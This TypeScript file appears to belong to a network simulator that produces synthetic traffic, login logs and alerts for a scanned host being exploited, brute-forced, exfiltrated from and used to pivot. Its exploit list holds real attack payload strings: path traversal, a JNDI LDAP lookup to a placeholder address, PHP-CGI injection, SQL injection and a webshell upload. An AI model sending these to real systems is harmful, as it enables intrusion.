import type { Network } from './network.ts'

/** What is done to a host that a scan had found, and whether it was taken by it. */
export interface Deed {
  readonly name: string
  readonly weight: number
  readonly taken: boolean
  /** @param from the scanner @param host last octet of ours @param at seconds after the sweep began */
  readonly happen: (network: Network, from: string, host: number, at: number) => void
}

const exploits = [
  '/cgi-bin/..%2f..%2fetc/passwd',
  '/?x=$%7bjndi:ldap://203.0.113.9/a}',
  '/index.php?-d+allow_url_include=1',
  '/items?id=1+union+select+1',
  // Tried as often, and not among the words that are known.
  '/api/v1/upload?name=shell.jsp',
]

export const deeds: readonly Deed[] = [
  { name: 'exploit request', weight: 3, taken: false, happen: exploit },
  { name: 'guessing', weight: 3, taken: false, happen: (n, from, host, at) => guess(n, from, host, at, false) },
  { name: 'guessing, and in', weight: 2, taken: true, happen: (n, from, host, at) => guess(n, from, host, at, true) },
  {
    name: 'exfiltration to the scanner',
    weight: 2,
    taken: true,
    happen: (network, from, host, at) =>
      network.transfer(
        { src: network.address(host), dst: from, port: network.pick([443, 4444, 22]) },
        at,
        network.between(0.2e6, 500e6),
      ),
  },
  {
    name: 'exfiltration elsewhere',
    weight: 2,
    taken: true,
    happen: (network, _, host, at) =>
      network.transfer(
        { src: network.address(host), dst: network.newPeer(), port: network.pick([443, 443, 22]) },
        at,
        network.between(0.2e6, 500e6),
      ),
  },
  { name: 'call back', weight: 1, taken: true, happen: callBack },
  { name: 'scan inside', weight: 2, taken: true, happen: scanInside },
  { name: 'sessions inside', weight: 1, taken: true, happen: sessionsInside },
]

function exploit(network: Network, from: string, host: number, at: number): void {
  const tries = 1 + network.random.below(5)
  const url = network.pick(exploits)
  for (let n = 0; n < tries; n++) {
    network.flow({
      at: at + 2 * n,
      src: from,
      dst: network.address(host),
      port: 80,
      answered: true,
      out: 700,
      back: 900,
    })
    if (network.sensors.http) network.logs.request(at + 2 * n, from, network.address(host), url)
  }
  if (network.sensors.alert && network.random.chance(0.7)) {
    network.logs.alert(at, from, network.address(host), 80, 'ET WEB_SERVER possible exploit CVE-2026-1111 inbound')
  }
}

function guess(network: Network, from: string, host: number, at: number, succeeds: boolean): void {
  const tries = Math.round(network.between(4, 300))
  const port = network.port === 3389 ? 3389 : 22
  for (let n = 0; n < tries; n++) {
    const when = at + 4 * n
    network.flow({ at: when, src: from, dst: network.address(host), port, answered: true, out: 1200, back: 1800 })
    if (network.sensors.auth && port === 22) {
      network.logs.login(when, from, `host${host}`, network.pick(['root', 'admin', 'test', 'deploy']), false)
    }
  }
  if (!succeeds) return
  const end = at + 4 * tries
  network.flow({ at: end, src: from, dst: network.address(host), port, answered: true, out: 20_000, back: 60_000 })
  if (network.sensors.auth && port === 22) network.logs.login(end, from, `host${host}`, 'deploy', true)
}

function callBack(network: Network, from: string, host: number, at: number): void {
  const ends = { src: network.address(host), dst: from, port: network.pick([443, 4444, 8080]) }
  for (let n = 0; n < 5; n++) network.flow({ ...ends, at: at + 60 * n, answered: true, out: 900, back: 2500 })
}

function scanInside(network: Network, _: string, host: number, at: number): void {
  const port = network.pick([22, 445, 3389])
  const size = 30 + network.random.below(60)
  for (let n = 0; n < size; n++) {
    const answered = n % 9 === 4
    network.flow({ at: at + n / 4, src: network.address(host), dst: network.inside(n + 1), port, answered })
  }
}

function sessionsInside(network: Network, _: string, host: number, at: number): void {
  const port = network.pick([22, 445, 3389])
  for (let n = 0; n < 1 + network.random.below(4); n++) {
    const ends = { src: network.address(host), dst: network.inside(20 + n), port }
    network.flow({ ...ends, at: at + 90 * n, answered: true, out: 9000, back: 15_000 })
  }
}
